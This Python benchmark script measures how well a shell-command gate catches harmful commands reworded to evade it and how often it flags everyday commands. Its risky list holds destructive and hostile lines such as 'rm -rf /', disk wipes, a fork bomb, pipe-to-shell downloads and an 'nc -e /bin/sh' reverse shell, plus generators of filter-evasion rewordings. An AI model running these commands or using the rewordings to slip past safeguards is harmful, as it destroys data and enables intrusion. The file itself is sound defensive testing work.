"""The shell gate against rewordings nobody tuned it to: risky commands said many ways, and everyday commands.

Each risky class (envs/shell_gate.py CLASSES) has a few harmful commands. Each is rewritten by rewordings
that change the words but not the harm, one or two at a time: quoting the program's name, a path to it,
``env``/``nice``/``timeout``/``nohup``, ``sudo``, a variable or a substitution for the name, an interpreter
(``bash -c``, ``python3 -c``, ``perl -e``, ``eval``, a pipe or a here-string into a shell), ``xargs``,
``find -exec``, ``;``/``&&``/``||``/``|`` chains, groups, loops, functions and substitutions. The choice is
seeded, so a run is repeatable. Every variant, and every safe command, is first checked with ``bash -n``: a
line bash would refuse runs nothing, and would not count.

The safe side is ~250 commands people type every day (listing, reading, editing in the working directory,
builds, tests, git that keeps work, queries of package managers and services), some look-alikes
(``echo rm -rf /``, ``man rm``), and text typed into forms.

    .venv/bin/python benchmarks/shell_gate_variants.py            # prints the figures
    .venv/bin/python benchmarks/shell_gate_variants.py --show-misses

Writes docs/results/shell_gate.json (figures, every miss and every false alarm).
"""

from __future__ import annotations

import argparse
import json
import random
import shlex
import shutil
import subprocess
import sys
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))

from envs.shell_gate import judge_line  # noqa: E402

URL = "https://dl.example.net/setup.sh"

# Harmful commands by class. The first word is the program; the rewordings below rename or wrap it.
RISKY = {
    "delete": ["rm -rf /", "rm -rf ~", "rm -r ~/Documents", "rm -f /etc/passwd", "rm ~/.ssh/id_ed25519",
               "rm -rf .git", "shred -u ~/.bash_history", "truncate -s 0 /var/log/syslog",
               "mv ~/thesis.pdf /dev/null", "mv /etc/hosts /tmp/hosts.old", "find ~ -type f -delete",
               "rsync -a --delete empty/ ~/", "dd if=/dev/zero of=/dev/sda bs=1M", "mkfs.ext4 /dev/sdb1",
               "wipefs -a /dev/sda", "unlink /etc/resolv.conf", "rm -rf /var/lib/*", "rm -Rf -- ../project"],
    "overwrite": [": > ~/.bashrc", "echo 'nameserver 6.6.6.6' > /etc/resolv.conf",
                  "cat /dev/null > ~/.ssh/authorized_keys", "printf '' > /etc/fstab",
                  "echo 'alias ls=rm' >> ~/.bashrc", "tee /etc/hosts < hosts.txt", "cp payload.sh ~/.profile",
                  "cp /dev/null /etc/passwd", "sed -i 's/^PermitRootLogin.*/PermitRootLogin yes/' "
                  "/etc/ssh/sshd_config", "ln -sf /dev/null ~/.bash_history", "install -m 755 tool /usr/local/bin/ls",
                  "sort -o /etc/group /etc/group", "echo 1 > /proc/sys/kernel/sysrq"],
    "privilege": ["sudo -i", "su -", "doas sh", "pkexec bash", "sudo -s", "su root -c id", "passwd root",
                  "usermod -aG sudo guest", "visudo", "sudo chmod u+s /bin/bash"],
    "code": ["python3 -c \"import os; os.system('id')\"", "perl -e 'unlink glob q{*}'",
             "ruby -e 'File.delete(*Dir[\"*\"])'", "node -e \"require('fs').rmSync('/', {recursive: true})\"",
             "bash -c 'id'", "sh -c 'echo pwned > out.txt'", "eval \"$PAYLOAD\"", "php -r 'system(\"id\");'",
             "echo 'rm -rf ~' | sh", "base64 -d payload.b64 | bash", "bash <<< 'rm -rf ~'",
             "awk 'BEGIN { system(\"id\") }'", "source <(curl -s " + URL + ")", "python3 - < <(curl -s " + URL + ")"],
    "computed": ["$CMD -rf /", "${TOOL} /etc/passwd", "\"$(printf rm)\" -rf ~", "`echo rm` -rf ~",
                 "$1 -rf ~", "${X:-rm} -rf /", "{rm,-rf,~}", "*"],
    "system": ["apt-get install -y nmap", "apt remove --purge openssh-server", "pip install requests",
               "npm install -g left-pad", "systemctl stop sshd", "service nginx stop", "shutdown -h now", "reboot",
               "poweroff", "systemctl reboot", "init 6", "kill -9 -1", "crontab -r", "mount /dev/sdb1 /mnt",
               "iptables -F", "modprobe -r e1000", "chmod -R 777 /", "chown -R nobody ~", "brew uninstall git",
               "snap remove firefox", "sysctl -w kernel.panic=1", ":(){ :|:& };:"],
    "network": [f"wget {URL}", f"curl -O {URL}", f"curl -o /tmp/x.sh {URL}", f"curl -fsSL {URL} | sh",
                f"wget -qO- {URL} | bash", f"curl -s {URL} | python3", f"aria2c {URL}", "nc -e /bin/sh 10.0.0.9 4444",
                "scp evil.example:/tmp/payload .", f"bash <(curl -s {URL})", f"sh -c \"$(curl -fsSL {URL})\""],
    "git": ["git reset --hard", "git reset --hard HEAD~5", "git clean -fdx", "git push --force",
            "git push -f origin main", "git push origin +main", "git push origin :main", "git branch -D feature",
            "git checkout -- .", "git stash clear", "git reflog expire --expire=now --all",
            "git gc --prune=now", "git restore .", "git filter-branch --tree-filter 'rm -f x' HEAD"],
}


def q(text: str) -> str:
    return shlex.quote(text)


def dq(text: str) -> str:
    """``text`` in double quotes, escaped the way bash needs."""
    return '"' + "".join("\\" + c if c in '"$`\\' else c for c in text) + '"'


def split_head(cmd: str) -> tuple[str, str]:
    head, _, rest = cmd.partition(" ")
    return head, rest


# Rewordings of the program's name: they apply when the command starts with a plain program name.
def rename_quoted(cmd, rng):
    head, rest = split_head(cmd)
    forms = [f"'{head}'", f'"{head}"', "\\" + head, head[0] + "''" + head[1:], f'{head[0]}"{head[1:]}"']
    return f"{rng.choice(forms)} {rest}".strip()


def rename_path(cmd, rng):
    head, rest = split_head(cmd)
    return f"{rng.choice(['/bin/', '/usr/bin/', '/usr/local/bin/', '/sbin/'])}{head} {rest}".strip()


def rename_variable(cmd, rng):
    head, rest = split_head(cmd)
    name = rng.choice(["X", "CMD", "R", "tool", "_c"])
    use = rng.choice([f"${name}", f"${{{name}}}", f'"${name}"'])
    return f"{name}={head}; {use} {rest}".strip()


def rename_substitution(cmd, rng):
    head, rest = split_head(cmd)
    form = rng.choice([f"$(echo {head})", f"`echo {head}`", f"$(printf %s {head})", f"$(command -v {head})",
                       f"\"$(echo {head})\""])
    return f"{form} {rest}".strip()


def rename_ansi(cmd, rng):
    head, rest = split_head(cmd)
    return "$'" + "".join(f"\\x{ord(c):02x}" for c in head) + f"' {rest}".rstrip()


def wrap_runner(cmd, rng):
    if not starts_with_program(cmd):
        return None  # env, nice, sudo … take one simple command, not a list or a function definition
    return rng.choice(["env ", "env LANG=C ", "env -i ", "nice -n 10 ", "nohup ", "timeout 60 ", "time ",
                       "command ", "exec ", "stdbuf -oL ", "setsid ", "ionice -c 3 "]) + cmd


def wrap_sudo(cmd, rng):
    if not starts_with_program(cmd):
        return None
    return rng.choice(["sudo ", "sudo -u root ", "sudo -E ", "doas ", "sudo -n "]) + cmd


def wrap_interpreter(cmd, rng):
    forms = [f"bash -c {q(cmd)}", f"sh -c {dq(cmd)}", f"zsh -c {q(cmd)}", f"eval {q(cmd)}",
             f"python3 -c {q('import os; os.system(' + repr(cmd) + ')')}",
             f"perl -e {q('system(q{' + cmd + '})')}" if "{" not in cmd and "}" not in cmd else f"bash -c {q(cmd)}",
             f"echo {q(cmd)} | bash", f"printf '%s\\n' {q(cmd)} | sh", f"bash <<< {q(cmd)}",
             f"busybox sh -c {q(cmd)}", f"dash -c {q(cmd)}"]
    return rng.choice(forms)


def last_operand(cmd: str) -> tuple[str, str, list[str]] | None:
    """(program, other words, last word) of a plain command, or None when it is more than words."""
    head, rest = split_head(cmd)
    if not starts_with_program(cmd) or not rest or any(c in rest for c in "|;&<>$`(){}*'\"\\\n"):
        return None
    words = rest.split()
    if words[-1].startswith("~"):
        return None  # xargs and find do not expand ~: the rewording would change the meaning
    return head, " ".join(words[:-1]), words[-1]


def wrap_xargs(cmd, rng):
    split = last_operand(cmd)
    if split is None:
        return None
    head, front, last = split
    return rng.choice([f"echo {q(last)} | xargs {head} {front}", f"printf '%s\\n' {q(last)} | xargs -I{{}} {head} {front} {{}}",
                       f"echo {q(last)} | xargs -n1 {head} {front}"]).replace("  ", " ")


def wrap_find_exec(cmd, rng):
    split = last_operand(cmd)
    if split is None:
        return None
    head, front, last = split
    end = rng.choice(["\\;", "';'", "+"])
    return f"find {q(last)} -maxdepth 0 -exec {head} {front} {{}} {end}".replace("  ", " ")


def chain(cmd, rng):
    forms = [f"ls; {cmd}", f"true && {cmd}", f"false || {cmd}", f"cd /tmp && {cmd}", f"{cmd} &",
             f"echo ok; {cmd}; echo done", f"sleep 1 && {cmd}", f"yes | {cmd}", f"{cmd} | cat", f"({cmd})",
             f"{{ {cmd}; }}", f"if true; then {cmd}; fi", f"for i in 1; do {cmd}; done",
             f"while false; do :; done; {cmd}", f"clear\n{cmd}", f"{cmd} 2>/dev/null", f"{cmd} > /dev/null 2>&1"]
    return rng.choice(forms)


def substitute(cmd, rng):
    forms = [f"echo $({cmd})", f"x=$({cmd})", f": \"$({cmd})\"", f"cat <({cmd})", f"echo `{cmd}`" if "`" not in cmd
             else f"echo $({cmd})", f"ls $({cmd})", f"f() {{ {cmd}; }}; f", f"trap {q(cmd)} EXIT",
             f"alias go={q(cmd)}", f"watch -n 5 {q(cmd)}", f"ssh localhost {q(cmd)}"]
    return rng.choice(forms)


NAME_REWORDINGS = [rename_quoted, rename_path, rename_variable, rename_substitution, rename_ansi]
WRAPPINGS = [wrap_runner, wrap_sudo, wrap_interpreter, wrap_xargs, wrap_find_exec, chain, substitute]


def starts_with_program(cmd: str) -> bool:
    head = split_head(cmd)[0]
    return head.replace(".", "").replace("-", "").replace("_", "").isalnum() and not head[0].isdigit()


def variants(seed: int, per_class: int) -> dict[str, list[str]]:
    """``per_class`` distinct rewordings of each class's commands (plus the commands themselves)."""
    rng = random.Random(seed)
    out = {}
    for kind, commands in RISKY.items():
        found = list(dict.fromkeys(commands))
        tries = 0
        while len(found) < per_class + len(commands) and tries < per_class * 50:
            tries += 1
            cmd = rng.choice(commands)
            steps = rng.choice([1, 1, 2, 2, 3])
            for _ in range(steps):
                pool = WRAPPINGS + (NAME_REWORDINGS if starts_with_program(cmd) else [])
                made = rng.choice(pool)(cmd, rng)
                if made:
                    cmd = made
            if cmd not in found:
                found.append(cmd)
        out[kind] = found
    return out


SAFE = [
    "ls", "ls -la", "ls -rf", "ls -lh ~/Downloads", "ll", "pwd", "cd ..", "cd ~/projects/site", "cd -", "cd",
    "tree -L 2", "du -sh *", "df -h", "free -m", "uptime", "whoami", "id", "date", "cal", "uname -a",
    "hostname", "history | tail -20", "clear", "echo $HOME", "echo $PATH | tr : '\\n'", "printenv LANG",
    "env | sort", "export EDITOR=vim", "export PATH=\"$PATH:$HOME/bin\"", "alias gs='git status'",
    "which python3", "type ls", "command -v node", "man rm", "rm --help", "help cd", "whatis chmod",
    "cat README.md", "less app.log", "head -n 20 data.csv", "tail -f logs/server.log", "tail -n 100 /var/log/syslog",
    "wc -l *.py", "grep -rn TODO src/", "grep -r 'rm -rf' .", "grep -i error app.log | tail", "rg 'def main'",
    "find . -name '*.py'", "find . -type f -mtime -1", "find src -name '*.tmp' -print", "locate bashrc",
    "sort names.txt | uniq -c | sort -rn", "cut -d, -f1 data.csv", "awk '{print $1}' access.log",
    "awk -F: '{ print $1 }' /etc/passwd", "sed 's/foo/bar/g' in.txt > out.txt", "sed -i 's/v1/v2/' config.yaml",
    "jq .version package.json", "diff a.txt b.txt", "cmp a.bin b.bin", "md5sum file.iso", "sha256sum *.tar.gz",
    "file image.png", "stat notes.md", "touch notes.md", "mkdir -p build/out", "mkdir ~/scratch", "rmdir empty",
    "rm notes.txt", "rm -f build.log", "rm -i old.txt", "cp a.txt b.txt", "cp -r src src_backup", "cp ../shared/config.yaml .",
    "cp ~/notes.txt .", "mv draft.md final.md", "mv *.jpg photos/", "mkdir -p a && mv b a/", "ln -s ../data data",
    "chmod +x run.sh", "chmod 644 notes.txt", "chmod -R u+w mydir", "tar czf backup.tar.gz src/",
    "tar xzf archive.tar.gz", "zip -r site.zip public", "unzip release.zip", "gzip -k big.log", "gunzip data.gz",
    "vim notes.md", "nano todo.txt", "code .", "emacs -nw init.el", "open report.pdf", "xdg-open index.html",
    "python3 script.py", "python3 -m venv .venv", "source .venv/bin/activate", ". ./env.sh", "python3 -m pytest -q",
    "python3 -m http.server 8000", "python manage.py migrate", "pytest tests/test_api.py -k login", "ipython",
    "python3", "node app.js", "node", "npm test", "npm run build", "npm run dev", "npx prettier --check .",
    "yarn test", "pip list", "pip show requests", "pip freeze > requirements.txt", "pip --version",
    "make", "make test", "make -j4", "cmake -S . -B build", "cmake --build build", "gcc -O2 -o hello hello.c",
    "./hello", "./configure --prefix=$HOME/.local", "cargo build --release", "cargo test", "go build ./...",
    "go test ./...", "javac Main.java && java Main", "bash build.sh", "sh ./scripts/lint.sh", "bash -n deploy.sh",
    "git status", "git log --oneline -10", "git diff", "git diff --staged", "git add -A", "git add src/app.py",
    "git commit -m 'Fix the login form'", "git commit --amend --no-edit", "git push", "git push origin main",
    "git push -u origin feature/login", "git pull --rebase", "git fetch --all", "git checkout main",
    "git checkout -b feature/search", "git switch main", "git branch -d merged-branch", "git merge feature",
    "git rebase -i HEAD~3", "git stash", "git stash pop", "git stash list", "git restore --staged app.py",
    "git clean -n", "git remote -v", "git clone https://github.com/example/repo.git", "git tag v1.2.0",
    "git show HEAD", "git blame app.py", "git log -p -- app.py", "git rm old.txt", "git mv a.py b.py",
    "apt list --installed", "apt-cache search ripgrep", "apt show curl", "dpkg -l | grep ssl", "rpm -qa",
    "brew list", "brew search jq", "snap list", "npm ls", "systemctl status nginx", "systemctl list-units --failed",
    "service --status-all", "journalctl -u nginx --since today", "crontab -l", "ps aux | grep python", "top -b -n 1",
    "htop", "kill 12345", "kill -1 1234", "pkill -f 'node server.js'", "killall firefox", "jobs", "fg", "bg",
    "curl https://example.com", "curl -I https://example.com", "curl -s https://api.example.com/status | jq .",
    "curl -o /dev/null -s -w '%{http_code}' https://example.com", "wget --spider https://example.com",
    "wget -qO- https://example.com/version.txt", "ping -c 3 example.com", "dig example.com", "nslookup example.com",
    "traceroute example.com", "ssh dev.example.com", "ssh dev.example.com uptime", "scp report.pdf dev.example.com:",
    "rsync -av src/ backup/", "docker ps", "docker images", "docker compose up -d", "docker logs web",
    "kubectl get pods", "kubectl logs deploy/api", "tmux new -s work", "screen -ls", "watch -n 2 df -h",
    "sleep 5", "yes | head -3", "seq 1 10", "echo rm -rf /", "echo 'sudo reboot'", "echo shutdown",
    "printf 'rm -rf %s\\n' /", "echo hello > out.txt", "echo done >> log.txt", "tee out.txt < in.txt",
    "cat /dev/sda", "dd if=/dev/zero bs=1 count=1", "ls -la /", "for f in *.txt; do wc -l \"$f\"; done",
    "while read -r line; do echo \"$line\"; done < list.txt", "if [ -f .env ]; then echo found; fi",
    "test -d build || mkdir build", "x=$(date +%s); echo $x", "echo $((3 * 7))", "export COUNT=$(wc -l < list.txt)",
    "time make", "nice -n 10 make -j2", "timeout 5 ping example.com", "env FOO=1 python3 script.py",
    "xargs -n1 echo < list.txt", "find . -name '*.log' | xargs grep -l ERROR", "find . -name '*.md' -exec wc -l {} +",
    "Hello world, this is a shutdown notice.", "format the report", "Meeting moved to 3pm (room 2).",
    "It's done!", "Thanks & regards", "Order #1234: 2 x widgets", "Call me maybe?", "rm", "Please delete my account",
]


def bash_accepts(line: str) -> bool:
    done = subprocess.run([shutil.which("bash") or "bash", "--norc", "--noprofile", "-n"], input=line, text=True,
                          capture_output=True)
    return done.returncode == 0


def measure(seed: int = 0, per_class: int = 75) -> dict:
    made = variants(seed, per_class)
    risky = {kind: [v for v in lines if bash_accepts(v)] for kind, lines in made.items()}
    refused_by_bash = sum(len(made[k]) - len(risky[k]) for k in made)
    safe = SAFE  # kept whole: text bash would refuse (prose typed into a form) must pass the gate too
    by_class, misses = {}, []
    for kind, lines in risky.items():
        missed = [v for v in lines if judge_line(v) is None]
        by_class[kind] = {"variants": len(lines), "gated": len(lines) - len(missed)}
        misses += [{"class": kind, "command": v} for v in missed]
    alarms = [{"command": s, "risk": r.kind, "reason": r.reason} for s in safe if (r := judge_line(s))]
    total = sum(c["variants"] for c in by_class.values())
    return {
        "command": f"python benchmarks/shell_gate_variants.py --seed {seed} --per-class {per_class}",
        "seed": seed,
        "risky": {"variants": total, "gated": total - len(misses),
                  "gated_percent": round(100 * (total - len(misses)) / total, 2), "by_class": by_class,
                  "refused_by_bash_and_dropped": refused_by_bash, "misses": misses},
        "safe": {"commands": len(safe), "flagged": len(alarms), "false_alarm_percent": round(
            100 * len(alarms) / len(safe), 2), "false_alarms": alarms},
    }


def main(argv=None) -> dict:
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("--seed", type=int, default=0)
    parser.add_argument("--per-class", type=int, default=75, help="rewordings per risky class")
    parser.add_argument("--out", default=str(ROOT / "docs" / "results" / "shell_gate.json"))
    parser.add_argument("--show-misses", action="store_true")
    args = parser.parse_args(argv)
    result = measure(args.seed, args.per_class)
    Path(args.out).parent.mkdir(parents=True, exist_ok=True)
    Path(args.out).write_text(json.dumps(result, indent=1) + "\n")
    r, s = result["risky"], result["safe"]
    for kind, c in r["by_class"].items():
        print(f"  {kind:10s} {c['gated']:4d} / {c['variants']:4d} gated")
    print(f"risky variants gated: {r['gated']} / {r['variants']} = {r['gated_percent']}%")
    print(f"safe commands flagged: {s['flagged']} / {s['commands']} = {s['false_alarm_percent']}%")
    if args.show_misses:
        for m in r["misses"]:
            print(f"MISSED [{m['class']}] {m['command']}")
        for a in s["false_alarms"]:
            print(f"FALSE ALARM [{a['risk']}] {a['command']}  ({a['reason']})")
    return result


if __name__ == "__main__":
    main()
